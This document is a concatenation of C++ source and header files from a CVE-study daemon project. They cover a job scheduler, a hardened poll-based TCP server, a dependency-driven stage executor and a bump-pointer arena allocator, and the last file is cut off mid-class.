  obs::gauge_set(observability_, "daemon/backlog_depth", backlog_weight_);
}

void JobScheduler::finalize_locked(const std::shared_ptr<Job>& job, JobState state,
                                   std::string message) {
  release_backlog_locked(job);
  job->state = state;
  if (job->message.empty()) job->message = std::move(message);
  switch (state) {
    case JobState::kComplete:
      ++totals_.completed;
      obs::count(observability_, "daemon/jobs_completed");
      break;
    case JobState::kCancelled:
      ++totals_.cancelled;
      obs::count(observability_, "daemon/jobs_cancelled");
      break;
    case JobState::kExpired:
      ++totals_.expired;
      obs::count(observability_, "daemon/deadline_expired_total");
      break;
    case JobState::kFailed:
      ++totals_.failed;
      obs::count(observability_, "daemon/jobs_failed");
      break;
    case JobState::kQueued:
    case JobState::kRunning:
      break;
  }
}

std::optional<JobStatus> JobScheduler::query(const std::string& job_id) {
  std::lock_guard<std::mutex> lock(mutex_);
  const auto it = jobs_.find(job_id);
  if (it == jobs_.end()) return std::nullopt;
  const auto& job = it->second;
  // Lazy finalization: a queued job whose token already fired (deadline in
  // queue, cancel racing a query) reports its terminal state immediately
  // instead of waiting for a worker to pick it up and discard it.
  if (job->state == JobState::kQueued && job->token.cancelled()) {
    const bool deadline = job->token.reason() == util::CancelReason::kDeadline;
    finalize_locked(job, deadline ? JobState::kExpired : JobState::kCancelled,
                    deadline ? "deadline expired while queued" : "cancelled while queued");
  }

  JobStatus status;
  status.id = job->id;
  status.state = job->state;
  status.seed = job->spec.seed;
  status.scale = job->spec.scale;
  status.stage = job->stage;
  status.digest = job->digest;
  status.summary = job->summary;
  status.message = job->message;
  status.error_class = job->error_class;
  status.resumable = job->resumable;
  status.resume_key = job->resume_key;
  status.wait_us = job->wait_us;
  status.run_us = job->run_us;
  return status;
}

bool JobScheduler::cancel(const std::string& job_id) {
  std::lock_guard<std::mutex> lock(mutex_);
  const auto it = jobs_.find(job_id);
  if (it == jobs_.end()) return false;
  const auto& job = it->second;
  switch (job->state) {
    case JobState::kQueued:
      job->token.request_cancel();
      finalize_locked(job, JobState::kCancelled, "cancelled while queued");
      return true;
    case JobState::kRunning:
      // Fire the token; the study unwinds at its next cancellation point
      // (checkpoints journaled) and the worker finalizes the job.
      job->token.request_cancel();
      return true;
    default:
      return false;
  }
}

std::size_t JobScheduler::cancel_owner(std::uint64_t owner) {
  if (owner == 0) return 0;
  std::lock_guard<std::mutex> lock(mutex_);
  std::size_t cancelled = 0;
  for (const auto& [id, job] : jobs_) {
    if (job->spec.owner != owner || job->spec.detach) continue;
    if (job->state == JobState::kQueued) {
      job->token.request_cancel();
      finalize_locked(job, JobState::kCancelled, "client disconnected");
      ++cancelled;
    } else if (job->state == JobState::kRunning) {
      job->token.request_cancel();
      ++cancelled;
    }
  }
  return cancelled;
}

SchedulerStats JobScheduler::stats() const {
  std::lock_guard<std::mutex> lock(mutex_);
  SchedulerStats stats = totals_;
  stats.backlog_weight = backlog_weight_;
  stats.running = running_;
  stats.queued = 0;
  for (const auto& job : queue_) {
    if (job->state == JobState::kQueued) ++stats.queued;
  }
  return stats;
}

bool JobScheduler::draining() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return draining_;
}

void JobScheduler::drain() {
  {
    std::lock_guard<std::mutex> lock(mutex_);
    if (!draining_) {
      draining_ = true;
      // The queue never starts: finalize it as cancelled ("draining") so
      // clients polling those jobs learn the truth immediately.
      for (const auto& job : queue_) {
        if (job->state != JobState::kQueued) continue;
        job->token.request_cancel();
        finalize_locked(job, JobState::kCancelled, "daemon draining");
      }
      queue_.clear();
      // Running studies checkpoint-and-unwind; their workers finalize them.
      for (const auto& [id, job] : jobs_) {
        if (job->state == JobState::kRunning) job->token.request_cancel();
      }
    }
    cv_.notify_all();
  }
  for (auto& worker : workers_) {
    if (worker.joinable()) worker.join();
  }
}

void JobScheduler::worker_loop() {
  for (;;) {
    std::shared_ptr<Job> job;
    {
      std::unique_lock<std::mutex> lock(mutex_);
      cv_.wait(lock, [this] { return draining_ || !queue_.empty(); });
      if (queue_.empty()) {
        if (draining_) return;
        continue;
      }
      job = queue_.front();
      queue_.pop_front();
      if (job->state != JobState::kQueued) continue;  // finalized while queued
      if (job->token.cancelled()) {
        const bool deadline = job->token.reason() == util::CancelReason::kDeadline;
        finalize_locked(job, deadline ? JobState::kExpired : JobState::kCancelled,
                        deadline ? "deadline expired while queued" : "cancelled while queued");
        continue;
      }
      job->state = JobState::kRunning;
      job->started = steady_clock::now();
      job->wait_us = static_cast<std::uint64_t>(
          duration_cast<microseconds>(job->started - job->submitted).count());
      release_backlog_locked(job);
      ++running_;
      obs::gauge_set(observability_, "daemon/running_jobs",
                     static_cast<std::int64_t>(running_));
      obs::observe(observability_, "daemon/job_wait_us", job->wait_us);
    }
    run_job(job);
  }
}

void JobScheduler::run_job(const std::shared_ptr<Job>& job) {
  pipeline::StudyConfig config;
  config.seed = job->spec.seed;
  config.event_scale = job->spec.scale;
  config.threads = std::max(1, job->spec.threads);
  config.cache_dir = config_.cache_dir;
  config.io_retry = config_.io_retry;
  config.cancel = &job->token;
  config.stage_hook = [this, job_weak = std::weak_ptr<Job>(job)](const char* stage) {
    const auto hooked = job_weak.lock();
    if (!hooked) return;
    std::lock_guard<std::mutex> lock(mutex_);
    hooked->stage = stage;
  };

  pipeline::RunSupervisor supervisor(config);
  pipeline::RunReport report = supervisor.run();

  // Ingest the completed run into the shared session store before taking
  // the scheduler lock -- store I/O must never serialize job bookkeeping.
  // Best-effort, idempotent on run_key (a re-run of the same config is a
  // no-op commit): a store failure degrades to a metric, never a failed
  // job -- the result digest and summary below are already in hand.
  if (config_.store != nullptr && report.status == pipeline::RunStatus::kComplete) {
    store::StoreError store_error;
    if (config_.store->ingest(*report.result, cache::run_key(config), &store_error)) {
      obs::count(observability_, "daemon/store_ingests");
      // Incremental fold of just this run's delta; compact the chain
      // once enough range segments accumulate.
      (void)config_.store->checkpoint(&store_error);
      if (config_.store->stats().base_segments >= kStoreCompactTiers) {
        (void)config_.store->compact(&store_error);
      }
    } else {
      obs::count(observability_, "daemon/store_ingest_failed");
    }
  }

  std::lock_guard<std::mutex> lock(mutex_);
  --running_;
  obs::gauge_set(observability_, "daemon/running_jobs", static_cast<std::int64_t>(running_));
  job->run_us = static_cast<std::uint64_t>(
      duration_cast<microseconds>(steady_clock::now() - job->started).count());
  obs::observe(observability_, "daemon/job_run_us", job->run_us);
  job->resumable = report.resumable;
  job->resume_key = report.resume_key;
  switch (report.status) {
    case pipeline::RunStatus::kComplete: {
      const pipeline::StudyResult& result = *report.result;
      job->digest = util::sha256_hex(cache::encode_study_result(result));
      util::Json summary;
      summary.set("sessions", util::Json(static_cast<std::int64_t>(result.traffic.sessions.size())));
      summary.set("matched",
                  util::Json(static_cast<std::int64_t>(result.reconstruction.sessions_matched)));
      summary.set("cves",
                  util::Json(static_cast<std::int64_t>(result.reconstruction.timelines.size())));
      summary.set("mitigated_fraction", util::Json(result.exposure.mitigated_fraction()));
      job->summary = std::move(summary);
      finalize_locked(job, JobState::kComplete, "");
      break;
    }
    case pipeline::RunStatus::kDeadline:
      finalize_locked(job, JobState::kExpired, report.message);
      break;
    case pipeline::RunStatus::kCancelled:
      finalize_locked(job, JobState::kCancelled, report.message);
      break;
    case pipeline::RunStatus::kFailed:
      job->error_class = pipeline::error_class_name(report.error_class);
      finalize_locked(job, JobState::kFailed, report.message);
      break;
  }
}

}  // namespace cvewb::daemon
