// cvewbd server: a poll-based TCP front end over the JobScheduler.
//
// One event-loop thread owns every socket; the scheduler's worker threads
// own every study.  The loop speaks the newline-delimited JSON protocol
// (daemon/protocol.h) and is built to survive clients at their worst:
//
//   * read buffers are capped -- a frame that exceeds max_frame_bytes gets
//     a structured frame_too_large reply and the connection is dropped, so
//     an attacker cannot buffer unbounded bytes;
//   * write buffers are capped -- a client that stops reading (slow-loris
//     in reverse) is closed as a slow consumer rather than ballooning the
//     daemon's memory;
//   * idle timeouts -- a connection that neither completes a frame nor
//     reads replies within idle_timeout is closed (the classic slow-loris
//     defence), and every timeout is a daemon/idle_timeouts metric;
//   * disconnect cancels -- closing a connection (gracefully or by reset)
//     fires the CancelToken of every non-detached job it submitted;
//   * graceful drain -- request_shutdown() (async-signal-safe, called from
//     the SIGTERM handler) stops the accept loop, drains the scheduler
//     (running studies checkpoint via their journals), flushes what can be
//     flushed, and run() returns so main can exit 0.
//
// All I/O goes through the SocketIo fault layer, so the chaos suite can
// prove those properties under deterministic short reads/writes, stalls,
// and resets.
#pragma once

#include <chrono>
#include <cstdint>
#include <map>
#include <memory>
#include <string>

#include "daemon/job_scheduler.h"
#include "daemon/protocol.h"
#include "daemon/socket_fault.h"
#include "util/memory_budget.h"

namespace cvewb::obs {
struct Observability;
}
namespace cvewb::store {
class Store;
}

namespace cvewb::daemon {

struct ServerConfig {
  std::string bind_address = "127.0.0.1";
  std::uint16_t port = 0;  // 0 = ephemeral; read the bound port via port()
  int max_connections = 1024;
  std::size_t max_frame_bytes = 64 * 1024;
  std::size_t max_write_buffer = 1 << 20;
  std::chrono::milliseconds idle_timeout{30'000};
  /// Poll tick: upper bound on how stale timeout checks can be.
  std::chrono::milliseconds poll_interval{50};
  ProtocolLimits protocol;
  SchedulerConfig scheduler;
  SocketFaultPlan fault_plan;  // deterministic I/O faults (tests)
  /// How long to stop calling accept() after the descriptor table is
  /// exhausted (EMFILE/ENFILE, real or injected).  During the pause the
  /// listen socket is dropped from the poll set -- pending connections
  /// wait in the kernel backlog instead of spinning the loop -- and an
  /// immediate idle sweep tries to free descriptors.
  std::chrono::milliseconds accept_retry_backoff{200};
  /// Periodic self-healing store scrub, run from the event loop when no
  /// connection has pending I/O.  0 = disabled.  A damaged file found by
  /// the sweep is quarantined and the store rebuilt from its WAL/archive
  /// chain (store::Store::scrub with repair=true).
  std::chrono::milliseconds scrub_interval{0};
  /// Persistent session store directory ("" = store ops disabled).  When
  /// set, the server opens ONE shared store::Store at construction:
  /// scheduler workers ingest every completed study through it, and
  /// store_query / store_stat serve index scans from it on the event-loop
  /// thread (reads take the store's shared lock, so a long ingest never
  /// blocks behind the poll loop or vice versa).  An unopenable store
  /// (structural corruption) degrades to a daemon/store_open_failed
  /// metric and structured no_store replies -- the daemon still serves
  /// studies.
  std::string store_dir;
};

/// Aggregate connection-level counters (also exported as daemon/* metrics).
struct ServerStats {
  std::uint64_t accepted = 0;
  std::uint64_t closed = 0;
  std::uint64_t rejected_connections = 0;  // over max_connections
  std::uint64_t frames_in = 0;
  std::uint64_t replies_out = 0;
  std::uint64_t oversized_frames = 0;
  std::uint64_t idle_timeouts = 0;
  std::uint64_t slow_consumer_closes = 0;
  std::uint64_t resets = 0;
  std::uint64_t accept_fd_exhausted = 0;  // EMFILE/ENFILE accept pauses
  std::uint64_t buffer_budget_closes = 0;  // connection buffers refused by the memory budget
  std::uint64_t scheduled_scrubs = 0;      // idle-loop store scrubs
};

class Server {
 public:
  explicit Server(ServerConfig config, obs::Observability* observability = nullptr);
  ~Server();

  Server(const Server&) = delete;
  Server& operator=(const Server&) = delete;

  /// Bind + listen.  False (with errno intact) when the socket cannot be
  /// set up; the server is unusable afterwards.
  bool start();

  /// Bound port (meaningful after start(); resolves port 0 to the real
  /// ephemeral port).
  std::uint16_t port() const { return bound_port_; }

  /// Event loop; returns after request_shutdown() completes the drain.
  void run();

  /// Async-signal-safe shutdown trigger: one byte down the self-pipe.
  /// Safe to call from a signal handler or any thread, any number of
  /// times.
  void request_shutdown() noexcept;

  JobScheduler& scheduler() { return scheduler_; }
  ServerStats stats() const;
  const SocketIo& io() const { return io_; }
  /// The shared session store; nullptr when store_dir is empty or the
  /// store failed to open.
  store::Store* store() { return store_.get(); }

 private:
  struct Connection {
    int fd = -1;
    std::uint64_t id = 0;
    std::string in_buf;
    std::string out_buf;
    std::chrono::steady_clock::time_point last_activity;
    bool closing = false;  // flush out_buf, then close
    /// Ledger entry covering both buffers' capacity; re-acquired as they
    /// grow.  A refusal (hard watermark) closes the connection with a
    /// structured `resource_exhausted` instead of buffering unbounded.
    util::BudgetCharge buffer_charge;
  };

  void handle_readable(Connection& conn);
  void handle_writable(Connection& conn);
  void handle_line(Connection& conn, std::string_view line);
  util::Json dispatch(Connection& conn, const Request& request);
  void send_reply(Connection& conn, const util::Json& reply);
  void accept_pending();
  /// Descriptor-table exhaustion: pause accepting, sweep for freeable
  /// connections, export the metric.  Pending clients wait in the kernel
  /// backlog until the pause lapses.
  void on_accept_fd_exhausted();
  /// Grow `conn.buffer_charge` to cover both buffers; false (and the
  /// connection marked closing) when the budget's hard watermark refuses.
  /// The previous charge is kept on refusal -- the buffers it covered are
  /// still live while the connection drains.  `queue_refusal=false`
  /// suppresses the resource_exhausted frame, for call sites where the
  /// reply that triggered the refusal is itself already queued.
  bool charge_connection_buffers(Connection& conn, bool queue_refusal = true);
  void maybe_scheduled_scrub(std::chrono::steady_clock::time_point now);
  void close_connection(std::uint64_t conn_id, const char* why);
  void drain_and_close_all();

  ServerConfig config_;
  obs::Observability* observability_;
  SocketIo io_;
  /// Declared before scheduler_: the scheduler holds a raw pointer into
  /// this store, so it must be constructed first and destroyed last.
  std::unique_ptr<store::Store> store_;
  JobScheduler scheduler_;

  int listen_fd_ = -1;
  int wake_pipe_[2] = {-1, -1};
  std::uint16_t bound_port_ = 0;
  std::uint64_t next_conn_id_ = 0;
  std::map<std::uint64_t, Connection> connections_;
  ServerStats stats_;
  bool shutdown_requested_ = false;
  /// accept() stays paused until this instant after EMFILE/ENFILE.
  std::chrono::steady_clock::time_point accept_paused_until_{};
  std::chrono::steady_clock::time_point last_scrub_{};
};

}  // namespace cvewb::daemon
