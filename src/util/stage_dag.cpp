#include "util/stage_dag.h"

#include <chrono>
#include <stdexcept>
#include <utility>

namespace cvewb::util {

StageDag::NodeId StageDag::add(std::string name, std::function<void()> fn,
                               std::vector<NodeId> deps) {
  if (ran_) throw std::logic_error("StageDag::add after run");
  const NodeId id = nodes_.size();
  for (const NodeId dep : deps) {
    if (dep >= id) throw std::invalid_argument("StageDag: dependency must precede dependent");
  }
  Node node;
  node.name = std::move(name);
  node.fn = std::move(fn);
  node.remaining_deps = deps.size();
  node.deps = std::move(deps);
  nodes_.push_back(std::move(node));
  for (const NodeId dep : nodes_.back().deps) nodes_[dep].dependents.push_back(id);
  return id;
}

StageDag::NodeState StageDag::state(NodeId id) const {
  std::lock_guard<TimedMutex> lock(mutex_);
  return nodes_[id].state;
}

void StageDag::run() {
  if (ran_) throw std::logic_error("StageDag::run called twice");
  ran_ = true;
  if (pool_ == nullptr || pool_->size() <= 1) {
    run_inline();
  } else {
    run_pooled();
  }
  rethrow_first_failure();
}

void StageDag::run_inline() {
  // Id order is a topological order (deps precede dependents by
  // construction), so a single pass settles every node.  State updates
  // still take the mutex: state() may be probed from test hooks.
  for (NodeId id = 0; id < nodes_.size(); ++id) {
    bool dep_failed;
    {
      std::lock_guard<TimedMutex> lock(mutex_);
      dep_failed = nodes_[id].dep_failed;
      nodes_[id].state = dep_failed ? NodeState::skipped : NodeState::running;
    }
    std::exception_ptr error;
    if (!dep_failed) {
      try {
        if (cancel_ != nullptr) cancel_->check("stage_dag/node_start");
        nodes_[id].fn();
      } catch (...) {
        error = std::current_exception();
      }
    }
    {
      std::lock_guard<TimedMutex> lock(mutex_);
      if (!dep_failed) {
        nodes_[id].state = error ? NodeState::failed : NodeState::done;
        nodes_[id].error = error;
      }
      ++terminal_;
      if (dep_failed || error) {
        for (const NodeId dependent : nodes_[id].dependents) {
          nodes_[dependent].dep_failed = true;
        }
      }
    }
  }
}

void StageDag::run_pooled() {
  std::vector<NodeId> roots;
  {
    std::lock_guard<TimedMutex> lock(mutex_);
    for (NodeId id = 0; id < nodes_.size(); ++id) {
      if (nodes_[id].remaining_deps == 0) {
        nodes_[id].state = NodeState::running;
        roots.push_back(id);
      }
    }
  }
  for (const NodeId id : roots) {
    pool_->post([this, id] { execute_node(id); });
  }
  // Helping wait: drain pool tasks (our nodes, or shards those nodes fan
  // out) on this thread while the graph settles.  When the queue is empty
  // the remaining nodes are running on workers; a bounded cv wait picks up
  // their completion notifications.
  std::unique_lock<TimedMutex> lock(mutex_);
  while (terminal_ < nodes_.size()) {
    lock.unlock();
    const bool helped = pool_->try_run_one();
    lock.lock();
    if (!helped && terminal_ < nodes_.size()) {
      cv_.wait_for(lock, std::chrono::milliseconds(1),
                   [this] { return terminal_ == nodes_.size(); });
    }
  }
}

void StageDag::execute_node(NodeId id) {
  std::exception_ptr error;
  try {
    if (cancel_ != nullptr) cancel_->check("stage_dag/node_start");
    nodes_[id].fn();
  } catch (...) {
    error = std::current_exception();
  }
  std::vector<NodeId> newly_ready;
  {
    std::lock_guard<TimedMutex> lock(mutex_);
    settle(id, error ? NodeState::failed : NodeState::done, error, newly_ready);
    // Notify while still holding the lock.  The coordinator can return --
    // and the caller destroy this DAG -- the instant it observes the final
    // terminal_ count, so a notify after the unlock would race with
    // destruction.  Under the lock it cannot observe that count yet.
    // After the unlock this thread touches only pool_ for the newly-ready
    // posts, and those nodes are non-terminal, so the DAG provably
    // outlives the posts.
    cv_.notify_all();
  }
  for (const NodeId ready : newly_ready) {
    pool_->post([this, ready] { execute_node(ready); });
  }
}

void StageDag::settle(NodeId id, NodeState state, std::exception_ptr error,
                      std::vector<NodeId>& newly_ready) {
  Node& node = nodes_[id];
  node.state = state;
  node.error = std::move(error);
  ++terminal_;
  const bool bad = state != NodeState::done;
  for (const NodeId dep_id : node.dependents) {
    Node& dependent = nodes_[dep_id];
    if (bad) dependent.dep_failed = true;
    if (--dependent.remaining_deps != 0) continue;
    if (dependent.dep_failed) {
      // Skipping is itself a terminal event for *its* dependents -- the
      // cascade settles the whole doomed subtree in one pass.
      settle(dep_id, NodeState::skipped, nullptr, newly_ready);
    } else {
      dependent.state = NodeState::running;
      newly_ready.push_back(dep_id);
    }
  }
}

void StageDag::rethrow_first_failure() const {
  std::lock_guard<TimedMutex> lock(mutex_);
  for (const Node& node : nodes_) {
    // Lowest-id failure: the same exception a sequential walk in id order
    // would have surfaced first, regardless of wall-clock failure order.
    if (node.state == NodeState::failed && node.error) std::rethrow_exception(node.error);
  }
}

}  // namespace cvewb::util
