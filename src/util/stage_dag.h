// Dependency-driven stage executor for run_study.
//
// PR 7 and earlier ran the pipeline as a barrier-per-stage sequence:
// every traffic shard had to finish before the first fault chunk started,
// every fault chunk before the first IDS batch, and so on -- even though
// e.g. ruleset compilation depends on nothing and unique-IP counting does
// not depend on reconstruction.  StageDag replaces the barriers with an
// explicit dependency graph: each stage is a node, edges are data
// dependencies, and a node is submitted to the thread pool the moment its
// last dependency completes, so independent stages overlap.
//
// Determinism contract (the load-bearing part): the DAG changes only
// *when* a stage runs, never what it computes -- every node body is the
// same pure-function-of-(config, seed) shard work as the sequential path,
// and nodes communicate exclusively through their declared dependencies.
// tests/pipeline/scaling_golden_test.cpp proves StudyResult is
// byte-identical with the DAG on and off at every thread count.
//
// Failure semantics (thread-count-independent, property-tested in
// tests/util/stage_dag_test.cpp):
//   - a node that throws is `failed`; its transitive dependents are
//     `skipped` (never run); unrelated branches run to completion;
//   - run() drains every runnable node, then rethrows the failure of the
//     lowest-id failed node -- the same exception the sequential order
//     would have surfaced first;
//   - a fired CancelToken fails nodes at their start checkpoint, so
//     cancellation/deadline propagates mid-DAG like any other failure.
//
// The coordinator and any caller-side waits are *helping* waits (they
// drain pool tasks via try_run_one), so a DAG node may itself fan out
// with for_each_shard without deadlocking the pool.
#pragma once

#include <condition_variable>
#include <cstddef>
#include <exception>
#include <functional>
#include <string>
#include <vector>

#include "util/cancel.h"
#include "util/thread_pool.h"
#include "util/timed_mutex.h"

namespace cvewb::util {

class StageDag {
 public:
  using NodeId = std::size_t;

  enum class NodeState {
    pending,  // waiting on dependencies
    running,  // submitted / executing
    done,     // body returned
    failed,   // body threw (exception kept for rethrow)
    skipped,  // a transitive dependency failed; body never ran
  };

  /// `pool == nullptr` (or a single-worker pool) selects the inline
  /// scheduler: nodes run on the calling thread in id order, which is a
  /// valid topological order because dependencies must precede dependents.
  /// `cancel` makes every node start a cancellation point.
  explicit StageDag(ThreadPool* pool, CancelToken* cancel = nullptr)
      : pool_(pool), cancel_(cancel) {}

  StageDag(const StageDag&) = delete;
  StageDag& operator=(const StageDag&) = delete;

  /// Add a node.  Every dependency must be a previously returned id (deps
  /// strictly less than the new node's id), which keeps the graph acyclic
  /// by construction; violations throw std::invalid_argument.
  NodeId add(std::string name, std::function<void()> fn, std::vector<NodeId> deps = {});

  /// Execute the graph; callable once.  Returns when every node is
  /// terminal (done/failed/skipped), then rethrows the lowest-id failure
  /// if any node failed.
  void run();

  std::size_t node_count() const { return nodes_.size(); }
  /// Post-run introspection (also valid before run: everything pending).
  NodeState state(NodeId id) const;
  const std::string& name(NodeId id) const { return nodes_[id].name; }

  /// The scheduler-state mutex ("dag/state"), exposed for the obs
  /// lock-contention profiler.
  TimedMutex& state_mutex() { return mutex_; }

 private:
  struct Node {
    std::string name;
    std::function<void()> fn;
    std::vector<NodeId> deps;
    std::vector<NodeId> dependents;
    std::size_t remaining_deps = 0;
    bool dep_failed = false;
    NodeState state = NodeState::pending;
    std::exception_ptr error;
  };

  void run_inline();
  void run_pooled();
  void execute_node(NodeId id);
  /// Record a terminal transition and collect newly-ready dependents.
  /// Caller must hold mutex_; skipping cascades recursively.
  void settle(NodeId id, NodeState state, std::exception_ptr error,
              std::vector<NodeId>& newly_ready);
  void rethrow_first_failure() const;

  ThreadPool* pool_;
  CancelToken* cancel_;
  std::vector<Node> nodes_;
  bool ran_ = false;

  mutable TimedMutex mutex_{"dag/state"};
  std::condition_variable_any cv_;
  std::size_t terminal_ = 0;  // nodes in a terminal state; guarded by mutex_
};

}  // namespace cvewb::util
