// Bump-pointer arena allocator for per-chunk scratch storage.
//
// The reconstruction hot loop runs millions of sessions through parse /
// decode / join steps whose scratch buffers would otherwise be allocated
// and freed per session.  An Arena turns that churn into pointer bumps:
// allocate whatever the current session needs, then `reset()` before the
// next one -- the chunks stay owned by the arena, so the steady state
// performs zero heap operations.
//
// Not thread-safe by design: each worker owns its own Arena (one per
// match-scratch), exactly like the per-shard RNG streams.  Alignment is
// respected per allocation; `reset()` keeps every chunk but rewinds the
// bump pointers, and `release()` frees all chunks back to the heap.
#pragma once

#include <cstddef>
#include <cstdint>
#include <cstring>
#include <memory>
#include <string_view>
#include <vector>

namespace cvewb::util {

class Arena {
 public:
  static constexpr std::size_t kDefaultChunkBytes = 64 * 1024;

  explicit Arena(std::size_t chunk_bytes = kDefaultChunkBytes)
      : chunk_bytes_(chunk_bytes == 0 ? kDefaultChunkBytes : chunk_bytes) {}

  Arena(const Arena&) = delete;
  Arena& operator=(const Arena&) = delete;

  /// Allocate `size` bytes aligned to `align` (a power of two).  Oversized
  /// requests get a dedicated chunk, so any size succeeds.
  void* allocate(std::size_t size, std::size_t align = alignof(std::max_align_t)) {
    if (size == 0) size = 1;
    if (chunk_ < chunks_.size()) {
      Chunk& c = chunks_[chunk_];
      const std::size_t aligned = align_up(c.used, align);
      if (aligned + size <= c.capacity) {
        c.used = aligned + size;
        ++allocations_;
        return c.data.get() + aligned;
      }
    }
    return allocate_slow(size, align);
  }

  /// Typed array allocation (uninitialized storage).
  template <typename T>
  T* allocate_array(std::size_t count) {
    return static_cast<T*>(allocate(count * sizeof(T), alignof(T)));
  }

  /// Copy `bytes` into the arena and return a view of the copy.
  std::string_view copy(std::string_view bytes) {
    char* dst = static_cast<char*>(allocate(bytes.size(), 1));
    std::memcpy(dst, bytes.data(), bytes.size());
    return std::string_view(dst, bytes.size());
  }

  /// Rewind every chunk without freeing: the next allocations reuse the
  /// same storage.  Views handed out before reset() are invalidated.
  void reset() {
    for (Chunk& c : chunks_) c.used = 0;
    chunk_ = 0;
  }

  /// Free every chunk back to the heap.
  void release() {
    chunks_.clear();
    chunks_.shrink_to_fit();
    chunk_ = 0;
  }

  /// Bytes currently handed out (diagnostic; includes alignment padding).
  std::size_t bytes_used() const {
    std::size_t total = 0;
    for (const Chunk& c : chunks_) total += c.used;
    return total;
  }
  /// Bytes held by the arena across all chunks.
  std::size_t bytes_reserved() const {
    std::size_t total = 0;
    for (const Chunk& c : chunks_) total += c.capacity;
    return total;
  }
  std::size_t chunk_count() const { return chunks_.size(); }
  /// Total successful allocate() calls since construction (diagnostic).
  std::uint64_t allocation_count() const { return allocations_; }

 private:
  struct Chunk {
    std::unique_ptr<char[]> data;
    std::size_t capacity = 0;
    std::size_t used = 0;
  };

  static std::size_t align_up(std::size_t n, std::size_t align) {
    return (n + align - 1) & ~(align - 1);
  }

  void* allocate_slow(std::size_t size, std::size_t align) {
    // Advance to (or create) a chunk that fits.  Alignment is satisfied by
    // starting the search at offset 0 of each candidate chunk: new[]
    // storage is max_align-aligned, so align_up(0, align) == 0.
    while (++chunk_ < chunks_.size()) {
      Chunk& c = chunks_[chunk_];
      const std::size_t aligned = align_up(c.used, align);
      if (aligned + size <= c.capacity) {
        c.used = aligned + size;
        ++allocations_;
        return c.data.get() + aligned;
      }
    }
    Chunk fresh;
    fresh.capacity = size > chunk_bytes_ ? size : chunk_bytes_;
    fresh.data = std::make_unique<char[]>(fresh.capacity);
    fresh.used = size;
    chunks_.push_back(std::move(fresh));
    chunk_ = chunks_.size() - 1;
    ++allocations_;
    return chunks_.back().data.get();
  }

  std::size_t chunk_bytes_;
  std::vector<Chunk> chunks_;
  std::size_t chunk_ = 0;  // current bump chunk
  std::uint64_t allocations_ = 0;
};

}  // namespace cvewb::util
