// Bump-pointer arena allocator for per-chunk scratch storage.
//
// The reconstruction hot loop runs millions of sessions through parse /
// decode / join steps whose scratch buffers would otherwise be allocated
// and freed per session.  An Arena turns that churn into pointer bumps:
// allocate whatever the current session needs, then `reset()` before the
// next one -- the chunks stay owned by the arena, so the steady state
// performs zero heap operations.
//
// Not thread-safe by design: each worker owns its own Arena (one per
// match-scratch), exactly like the per-shard RNG streams.  Alignment is
// respected per allocation; `reset()` keeps every chunk but rewinds the
// bump pointers, and `release()` frees all chunks back to the heap.
//
// Resource model (DESIGN.md §15): the fast path stays a pure pointer
// bump; only chunk *growth* (the slow path) is a charged allocation.
// Growth consults the injected allocation failpoint, charges the process
// MemoryBudget, and converts any failure -- injected, budget hard
// watermark, or a real bad_alloc from operator new -- into a structured
// util::ResourceExhausted instead of letting bad_alloc escape the hot
// loop.  Under soft budget pressure new chunks shrink (result-neutral:
// chunking never affects what callers are handed, only how it is
// batched).  Requests large enough to risk size arithmetic overflow are
// refused up front.
#pragma once

#include <cstddef>
#include <cstdint>
#include <cstring>
#include <limits>
#include <memory>
#include <new>
#include <string>
#include <string_view>
#include <vector>

#include "util/memory_budget.h"

namespace cvewb::util {

class Arena {
 public:
  static constexpr std::size_t kDefaultChunkBytes = 64 * 1024;
  /// Largest single request the arena will attempt.  Anything bigger is a
  /// corrupted size computation, not a real workload: refusing it here
  /// keeps the alignment arithmetic overflow-free by construction.
  static constexpr std::size_t kMaxRequestBytes = std::numeric_limits<std::size_t>::max() / 4;

  explicit Arena(std::size_t chunk_bytes = kDefaultChunkBytes)
      : chunk_bytes_(chunk_bytes == 0 ? kDefaultChunkBytes : chunk_bytes) {}

  Arena(const Arena&) = delete;
  Arena& operator=(const Arena&) = delete;
  ~Arena() { release(); }

  /// Allocate `size` bytes aligned to `align` (a power of two).  Oversized
  /// requests get a dedicated chunk, so any size up to kMaxRequestBytes
  /// succeeds; past it (or past the memory budget's hard watermark, or an
  /// injected failpoint) the failure is a structured ResourceExhausted.
  void* allocate(std::size_t size, std::size_t align = alignof(std::max_align_t)) {
    if (size == 0) size = 1;
    if (size > kMaxRequestBytes) {
      throw ResourceExhausted("arena: request of " + std::to_string(size) +
                              " bytes exceeds the huge-request guard");
    }
    if (chunk_ < chunks_.size()) {
      Chunk& c = chunks_[chunk_];
      const std::size_t aligned = align_up(c.used, align);
      if (aligned + size <= c.capacity) {
        c.used = aligned + size;
        ++allocations_;
        return c.data.get() + aligned;
      }
    }
    return allocate_slow(size, align);
  }

  /// Typed array allocation (uninitialized storage).  The element-count
  /// multiply is overflow-checked: a poisoned count surfaces as a
  /// structured ResourceExhausted, never a silently small allocation.
  template <typename T>
  T* allocate_array(std::size_t count) {
    if (count != 0 && count > kMaxRequestBytes / sizeof(T)) {
      throw ResourceExhausted("arena: array of " + std::to_string(count) + " x " +
                              std::to_string(sizeof(T)) + " bytes overflows");
    }
    return static_cast<T*>(allocate(count * sizeof(T), alignof(T)));
  }

  /// Copy `bytes` into the arena and return a view of the copy.
  std::string_view copy(std::string_view bytes) {
    char* dst = static_cast<char*>(allocate(bytes.size(), 1));
    std::memcpy(dst, bytes.data(), bytes.size());
    return std::string_view(dst, bytes.size());
  }

  /// Rewind every chunk without freeing: the next allocations reuse the
  /// same storage.  Views handed out before reset() are invalidated.
  void reset() {
    for (Chunk& c : chunks_) c.used = 0;
    chunk_ = 0;
  }

  /// Free every chunk back to the heap (and release their budget charge).
  void release() {
    chunks_.clear();
    chunks_.shrink_to_fit();
    chunk_ = 0;
    MemoryBudget::process().release(charged_bytes_);
    charged_bytes_ = 0;
  }

  /// Bytes currently handed out (diagnostic; includes alignment padding).
  std::size_t bytes_used() const {
    std::size_t total = 0;
    for (const Chunk& c : chunks_) total += c.used;
    return total;
  }
  /// Bytes held by the arena across all chunks.
  std::size_t bytes_reserved() const {
    std::size_t total = 0;
    for (const Chunk& c : chunks_) total += c.capacity;
    return total;
  }
  std::size_t chunk_count() const { return chunks_.size(); }
  /// Total successful allocate() calls since construction (diagnostic).
  std::uint64_t allocation_count() const { return allocations_; }

 private:
  struct Chunk {
    std::unique_ptr<char[]> data;
    std::size_t capacity = 0;
    std::size_t used = 0;
  };

